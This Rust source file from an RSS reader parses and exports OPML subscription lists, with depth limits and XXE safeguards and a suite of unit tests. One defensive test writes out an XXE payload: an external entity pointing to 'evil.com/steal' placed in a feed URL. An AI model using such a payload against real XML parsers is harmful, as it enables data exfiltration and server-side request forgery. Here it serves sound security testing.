use anyhow::{Context, Result};
use quick_xml::events::{BytesStart, Event};
use quick_xml::Reader;
use thiserror::Error;

use crate::storage::State;

/// Maximum allowed nesting depth for OPML outline elements.
/// Prevents stack overflow attacks from maliciously crafted deeply nested OPMLs.
const MAX_OPML_DEPTH: usize = 50;

/// Errors that can occur during OPML parsing.
#[derive(Debug, Error)]
pub enum OpmlError {
    /// OPML nesting depth exceeds safety limit.
    #[error("OPML nesting depth exceeds maximum of {0} levels")]
    MaxDepthExceeded(usize),

    /// XML parsing failed.
    #[error("XML parse error: {0}")]
    XmlParse(String),
}

/// One `<outline>` node of an OPML document.
///
/// Folder outlines usually carry no `xml_url` and hold the feeds as children;
/// feed outlines carry the URL and usually no children. Both shapes may mix.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Outline {
    /// Sourced from the `title` attribute, falling back to `text`.
    pub title: String,
    /// URL of the RSS/Atom feed, from `xmlUrl`.
    pub xml_url: Option<String>,
    /// URL of the feed's website, from `htmlUrl`.
    pub html_url: Option<String>,
    pub outlines: Vec<Outline>,
}

impl Outline {
    /// Feed outline with no children.
    pub fn feed(xml_url: impl Into<String>) -> Self {
        Self {
            xml_url: Some(xml_url.into()),
            ..Self::default()
        }
    }

    /// Folder outline wrapping `outlines`.
    pub fn folder(title: impl Into<String>, outlines: Vec<Outline>) -> Self {
        Self {
            title: title.into(),
            outlines,
            ..Self::default()
        }
    }
}

/// Flattens an outline tree into the feed URLs it names.
///
/// Depth-first: a node's own URL comes before its children's. Nodes without a
/// URL only contribute their children. Duplicates are kept.
pub fn flatten(outlines: &[Outline]) -> Vec<String> {
    let mut urls = Vec::new();
    collect_urls(outlines, &mut urls);
    urls
}

fn collect_urls(outlines: &[Outline], urls: &mut Vec<String>) {
    for outline in outlines {
        if let Some(url) = outline.xml_url.as_deref().filter(|u| !u.is_empty()) {
            urls.push(url.to_string());
        }
        collect_urls(&outline.outlines, urls);
    }
}

/// Reads an OPML file and returns the feed URLs it subscribes to, in
/// document order.
///
/// # Security
///
/// XXE (XML External Entity) attacks are mitigated because `quick-xml` (0.37) does not
/// parse `<!ENTITY>` declarations. Custom entities cause `EscapeError::UnrecognizedEntity`.
pub async fn parse(path: &str) -> Result<Vec<String>> {
    let content = tokio::fs::read_to_string(path)
        .await
        .with_context(|| format!("Failed to read OPML file: {}", path))?;
    let outlines = parse_opml(&content)?;
    Ok(flatten(&outlines))
}

/// Parses OPML content into its outline tree.
///
/// Only `<outline>` elements are considered; they are collected regardless of
/// which element wraps them, so both `<body>`-rooted and bare documents work.
pub fn parse_opml(content: &str) -> Result<Vec<Outline>, OpmlError> {
    // XXE protection. quick-xml (0.37) never parses <!ENTITY> declarations from
    // DOCTYPE. Entity resolution only covers the 5 XML builtins, and custom entities like
    // &xxe; produce an `EscapeError::UnrecognizedEntity` via `decode_and_unescape_value()`.
    let mut reader = Reader::from_str(content);
    reader.config_mut().trim_text(true);

    let mut roots = Vec::new();
    // Open outlines, innermost last. Its length is the current nesting depth.
    let mut open: Vec<Outline> = Vec::new();

    loop {
        match reader.read_event() {
            Ok(Event::Start(e)) if e.name().as_ref() == b"outline" => {
                // Reject excessively nested OPMLs
                if open.len() >= MAX_OPML_DEPTH {
                    return Err(OpmlError::MaxDepthExceeded(MAX_OPML_DEPTH));
                }
                open.push(parse_outline_attributes(&e, &reader)?);
            }
            Ok(Event::Empty(e)) if e.name().as_ref() == b"outline" => {
                let outline = parse_outline_attributes(&e, &reader)?;
                attach(&mut open, &mut roots, outline);
            }
            Ok(Event::End(e)) if e.name().as_ref() == b"outline" => {
                let outline = open.pop().ok_or_else(|| {
                    OpmlError::XmlParse("unexpected </outline> without opening tag".to_string())
                })?;
                attach(&mut open, &mut roots, outline);
            }
            Ok(Event::Eof) => break,
            Err(e) => return Err(OpmlError::XmlParse(e.to_string())),
            _ => {}
        }
    }

    if !open.is_empty() {
        return Err(OpmlError::XmlParse(format!(
            "{} outline element(s) left unclosed",
            open.len()
        )));
    }

    Ok(roots)
}

fn attach(open: &mut [Outline], roots: &mut Vec<Outline>, outline: Outline) {
    match open.last_mut() {
        Some(parent) => parent.outlines.push(outline),
        None => roots.push(outline),
    }
}

fn parse_outline_attributes(
    e: &BytesStart<'_>,
    reader: &Reader<&[u8]>,
) -> Result<Outline, OpmlError> {
    let mut outline = Outline::default();
    let mut text = None;

    for attr_result in e.attributes() {
        let attr = match attr_result {
            Ok(attr) => attr,
            Err(e) => {
                tracing::warn!(error = %e, "Skipping malformed OPML attribute");
                continue;
            }
        };
        let value = attr
            .decode_and_unescape_value(reader.decoder())
            .map_err(|e| OpmlError::XmlParse(e.to_string()))?
            .to_string();
        match attr.key.as_ref() {
            b"xmlUrl" => outline.xml_url = Some(value.trim().to_string()),
            b"htmlUrl" => outline.html_url = Some(value),
            b"title" => outline.title = value,
            b"text" => text = Some(value),
            _ => {}
        }
    }

    if outline.title.is_empty() {
        outline.title = text.unwrap_or_default();
    }
    Ok(outline)
}

/// Exports the subscriptions held in `state` as an OPML 2.0 XML string.
///
/// Each folder becomes a parent outline; each source a `type="rss"` child
/// with `text`, `title` and `xmlUrl` attributes.
pub fn export_opml(state: &State) -> Result<String> {
    use quick_xml::events::{BytesDecl, BytesEnd, BytesText};
    use quick_xml::Writer;
    use std::io::Cursor;

    let mut writer = Writer::new_with_indent(Cursor::new(Vec::new()), b' ', 2);

    writer
        .write_event(Event::Decl(BytesDecl::new("1.0", Some("UTF-8"), None)))
        .context("Failed to write XML declaration")?;

    let mut opml = BytesStart::new("opml");
    opml.push_attribute(("version", "2.0"));
    writer
        .write_event(Event::Start(opml))
        .context("Failed to write opml element")?;

    writer
        .write_event(Event::Start(BytesStart::new("head")))
        .context("Failed to write head element")?;
    writer
        .write_event(Event::Start(BytesStart::new("title")))
        .context("Failed to write title element")?;
    writer
        .write_event(Event::Text(BytesText::new("tidings subscriptions")))
        .context("Failed to write title text")?;
    writer
        .write_event(Event::End(BytesEnd::new("title")))
        .context("Failed to write title end")?;
    writer
        .write_event(Event::End(BytesEnd::new("head")))
        .context("Failed to write head end")?;

    writer
        .write_event(Event::Start(BytesStart::new("body")))
        .context("Failed to write body element")?;

    for (folder, sources) in &state.folders {
        let mut folder_outline = BytesStart::new("outline");
        folder_outline.push_attribute(("text", folder.as_str()));
        folder_outline.push_attribute(("title", folder.as_str()));
        writer
            .write_event(Event::Start(folder_outline))
            .context("Failed to write folder outline")?;

        for source in sources {
            let title = if source.title.is_empty() {
                source.url.as_str()
            } else {
                source.title.as_str()
            };
            let mut outline = BytesStart::new("outline");
            outline.push_attribute(("type", "rss"));
            outline.push_attribute(("text", title));
            outline.push_attribute(("title", title));
            outline.push_attribute(("xmlUrl", source.url.as_str()));
            writer
                .write_event(Event::Empty(outline))
                .context("Failed to write outline element")?;
        }

        writer
            .write_event(Event::End(BytesEnd::new("outline")))
            .context("Failed to write folder outline end")?;
    }

    writer
        .write_event(Event::End(BytesEnd::new("body")))
        .context("Failed to write body end")?;
    writer
        .write_event(Event::End(BytesEnd::new("opml")))
        .context("Failed to write opml end")?;

    let result = writer.into_inner().into_inner();
    String::from_utf8(result).context("Generated OPML contains invalid UTF-8")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::storage::Source;
    use chrono::Utc;
    use pretty_assertions::assert_eq;

    #[test]
    fn test_flatten_mixed_tree() {
        let outlines = vec![
            Outline::feed("http://a/feed"),
            Outline::folder("group", vec![Outline::feed("http://b/feed")]),
        ];
        assert_eq!(flatten(&outlines), vec!["http://a/feed", "http://b/feed"]);
    }

    #[test]
    fn test_flatten_parent_before_children() {
        let mut parent = Outline::feed("http://parent/feed");
        parent.outlines = vec![
            Outline::feed("http://child1/feed"),
            Outline::feed("http://child2/feed"),
        ];
        let outlines = vec![parent, Outline::feed("http://sibling/feed")];
        assert_eq!(
            flatten(&outlines),
            vec![
                "http://parent/feed",
                "http://child1/feed",
                "http://child2/feed",
                "http://sibling/feed"
            ]
        );
    }

    #[test]
    fn test_flatten_keeps_duplicates() {
        let outlines = vec![
            Outline::feed("http://a/feed"),
            Outline::folder("again", vec![Outline::feed("http://a/feed")]),
        ];
        assert_eq!(flatten(&outlines), vec!["http://a/feed", "http://a/feed"]);
    }

    #[test]
    fn test_flatten_empty_tree() {
        assert!(flatten(&[]).is_empty());
        assert!(flatten(&[Outline::folder("empty", vec![])]).is_empty());
    }

    #[test]
    fn test_parse_opml_builds_tree() {
        let content = r#"<?xml version="1.0" encoding="UTF-8"?>
<opml version="1.0">
  <head><title>Subscriptions</title></head>
  <body>
    <outline text="Top" xmlUrl="http://a/feed"/>
    <outline text="Blogs" title="Blogs">
      <outline type="rss" text="Example Blog" title="Example Blog" xmlUrl="https://example.com/feed.xml" htmlUrl="https://example.com"/>
      <outline type="rss" text="No HTML" xmlUrl="https://nohtml.com/rss"/>
    </outline>
  </body>
</opml>"#;

        let outlines = parse_opml(content).expect("Failed to parse nested OPML");
        assert_eq!(outlines.len(), 2);
        assert_eq!(outlines[0].title, "Top");
        assert_eq!(outlines[0].xml_url.as_deref(), Some("http://a/feed"));

        let blogs = &outlines[1];
        assert_eq!(blogs.title, "Blogs");
        assert_eq!(blogs.xml_url, None);
        assert_eq!(blogs.outlines.len(), 2);
        assert_eq!(blogs.outlines[0].title, "Example Blog");
        assert_eq!(
            blogs.outlines[0].html_url.as_deref(),
            Some("https://example.com")
        );
        assert_eq!(blogs.outlines[1].title, "No HTML");

        assert_eq!(
            flatten(&outlines),
            vec![
                "http://a/feed",
                "https://example.com/feed.xml",
                "https://nohtml.com/rss"
            ]
        );
    }

    #[test]
    fn test_feed_outline_with_children() {
        let content = r#"<opml><body>
    <outline xmlUrl="http://parent/feed">
        <outline xmlUrl="http://child/feed"/>
    </outline>
</body></opml>"#;
        let outlines = parse_opml(content).unwrap();
        assert_eq!(
            flatten(&outlines),
            vec!["http://parent/feed", "http://child/feed"]
        );
    }

    #[test]
    fn test_empty_opml() {
        let content = r#"<?xml version="1.0"?>
    <opml version="2.0"><body></body></opml>"#;
        assert!(parse_opml(content).unwrap().is_empty());
    }

    #[test]
    fn test_malformed_xml_error() {
        assert!(parse_opml("<opml><body><outline></body></opml>").is_err());
    }

    #[test]
    fn test_unclosed_outline_error() {
        let result = parse_opml(r#"<outline text="open">"#);
        assert!(matches!(result, Err(OpmlError::XmlParse(_))));
    }

    #[test]
    fn test_xxe_entity_not_expanded() {
        // Custom entities are rejected rather than expanded.
        let malicious_opml = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY exfil SYSTEM "https://evil.com/steal">]>
<opml version="2.0">
    <body>
        <outline text="Legit Feed" xmlUrl="&exfil;"/>
    </body>
</opml>"#;

        match parse_opml(malicious_opml) {
            Ok(outlines) => {
                for url in flatten(&outlines) {
                    assert!(!url.contains("evil.com"), "Entity expanded in URL: {}", url);
                }
            }
            Err(_) => {
                // Rejection is the expected behavior
            }
        }
    }

    #[test]
    fn test_deeply_nested_opml_rejected() {
        let mut opml = String::from(r#"<?xml version="1.0"?><opml version="2.0"><body>"#);
        for _ in 0..100 {
            opml.push_str(r#"<outline text="level">"#);
        }
        for _ in 0..100 {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        let err = parse_opml(&opml).unwrap_err();
        assert!(matches!(err, OpmlError::MaxDepthExceeded(50)));
        assert!(err.to_string().contains("50"));
    }

    #[test]
    fn test_nesting_at_depth_limit_allowed() {
        let mut opml = String::from(r#"<?xml version="1.0"?><opml version="2.0"><body>"#);
        for _ in 0..50 {
            opml.push_str(r#"<outline text="level">"#);
        }
        opml.push_str(r#"<outline text="Deep Feed" xmlUrl="https://deep.example.com/feed"/>"#);
        for _ in 0..50 {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        let outlines = parse_opml(&opml).expect("OPML at exactly max depth should be allowed");
        assert_eq!(flatten(&outlines), vec!["https://deep.example.com/feed"]);
    }

    #[test]
    fn test_export_opml_round_trip() {
        let now = Utc::now();
        let mut state = State::with_uncategorized(vec![
            Source::new("Example Blog", "https://example.com/feed.xml", now),
            Source::new("", "https://untitled.com/rss", now),
        ]);
        let mut news = Source::new("News & Views", "https://news.com/rss", now);
        news.folder = "news".to_string();
        state.folders.insert("news".to_string(), vec![news]);

        let xml = export_opml(&state).unwrap();
        assert!(xml.contains("News &amp; Views"));

        let outlines = parse_opml(&xml).unwrap();
        assert_eq!(outlines.len(), 2);
        assert_eq!(outlines[0].title, "news");
        assert_eq!(outlines[1].outlines[1].title, "https://untitled.com/rss");
        assert_eq!(
            flatten(&outlines),
            vec![
                "https://news.com/rss",
                "https://example.com/feed.xml",
                "https://untitled.com/rss"
            ]
        );
    }

    #[tokio::test]
    async fn test_parse_from_file() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("subscriptions.xml");
        std::fs::write(
            &path,
            r#"<opml><body><outline xmlUrl="http://a/feed"/><outline><outline xmlUrl="http://b/feed"/></outline></body></opml>"#,
        )
        .unwrap();

        let urls = parse(path.to_str().unwrap()).await.unwrap();
        assert_eq!(urls, vec!["http://a/feed", "http://b/feed"]);
    }
}
